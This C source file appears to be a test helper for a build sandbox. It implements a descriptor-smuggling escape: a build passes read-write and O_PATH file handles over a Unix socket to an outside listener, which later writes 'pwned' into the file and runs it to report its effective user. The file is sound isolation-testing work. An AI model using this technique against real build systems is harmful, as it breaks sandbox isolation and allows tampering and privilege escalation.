/* Two halves of one attack: a build hands descriptors to somebody outside, who uses them when the build is over.
 *
 *   smuggle send SOCKET FILE      opens FILE for reading and writing, and as a mere handle, and sends both
 *   smuggle hold SOCKET           listens, receives both, says `held INODE`; then, for each line on standard input:
 *                                 `write` writes `pwned` into it, `run` executes it, which says its effective user
 *   smuggle euid                  says its effective user
 *
 * A SOCKET that begins with `@` is an abstract name.
 */
#include <fcntl.h>
#include <stddef.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attempt.h"

#define HELD 2

union control {
  struct cmsghdr header;
  char space[CMSG_SPACE(HELD * sizeof(int))];
};

static socklen_t name_socket(const char *name, struct sockaddr_un *address) {
  memset(address, 0, sizeof *address);
  address->sun_family = AF_UNIX;
  strncpy(address->sun_path, name, sizeof address->sun_path - 1);
  if (name[0] != '@') return sizeof *address;
  address->sun_path[0] = '\0';
  return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + strlen(name));
}

static int send_file(const char *name, const char *file) {
  struct sockaddr_un address;
  socklen_t size = name_socket(name, &address);
  int out = socket(AF_UNIX, SOCK_STREAM, 0), connected = connect(out, (struct sockaddr *)&address, size);
  int files[HELD] = {open(file, O_RDWR), open(file, O_PATH)};
  union control control = {
      .header = {.cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS, .cmsg_len = CMSG_LEN(sizeof files)}};
  struct iovec byte = {.iov_base = "x", .iov_len = 1};
  struct msghdr message = {
      .msg_iov = &byte, .msg_iovlen = 1, .msg_control = control.space, .msg_controllen = sizeof control.space};
  attempted("connect", connected);
  memcpy(CMSG_DATA(&control.header), files, sizeof files);
  if (connected != 0) return 0;
  attempted("send", sendmsg(out, &message, 0));
  /* Not gone before the other end has them. */
  char answer;
  return read(out, &answer, 1) == 1 ? 0 : 1;
}

static void receive(const char *name, int files[HELD]) {
  struct sockaddr_un address;
  socklen_t size = name_socket(name, &address);
  int listener = socket(AF_UNIX, SOCK_STREAM, 0);
  union control control;
  char byte;
  struct iovec bytes = {.iov_base = &byte, .iov_len = 1};
  struct msghdr message = {
      .msg_iov = &bytes, .msg_iovlen = 1, .msg_control = control.space, .msg_controllen = sizeof control.space};
  if (bind(listener, (struct sockaddr *)&address, size) != 0 || listen(listener, 1) != 0) exit(1);
  if (name[0] != '@' && chmod(name, 0777) != 0) exit(1);
  puts("listening");
  int in = accept(listener, NULL, NULL);
  if (recvmsg(in, &message, 0) != 1 || CMSG_FIRSTHDR(&message) == NULL) exit(1);
  memcpy(files, CMSG_DATA(CMSG_FIRSTHDR(&message)), HELD * sizeof *files);
  if (write(in, "x", 1) != 1) exit(1);
}

static void execute(int handle) {
  char *arguments[] = {"smuggle", "euid", NULL}, *environment[] = {NULL};
  if (fork() == 0) {
    syscall(SYS_execveat, handle, "", arguments, environment, AT_EMPTY_PATH);
    attempted("run", -1);
    _exit(1);
  }
  wait(NULL);
}

static int hold(const char *name) {
  int files[HELD];
  struct stat info;
  char line[16];
  receive(name, files);
  if (fstat(files[0], &info) != 0) return 1;
  printf("held %llu\n", (unsigned long long)info.st_ino);
  while (fgets(line, sizeof line, stdin) != NULL) {
    if (strcmp(line, "write\n") == 0) attempted("write", pwrite(files[0], "pwned", 5, 0));
    if (strcmp(line, "run\n") == 0) execute(files[1]);
  }
  return 0;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc == 4 && strcmp(argv[1], "send") == 0) return send_file(argv[2], argv[3]);
  if (argc == 3 && strcmp(argv[1], "hold") == 0) return hold(argv[2]);
  if (argc == 2 && strcmp(argv[1], "euid") == 0) return printf("euid %u\n", (unsigned)geteuid()) < 0;
  return 1;
}
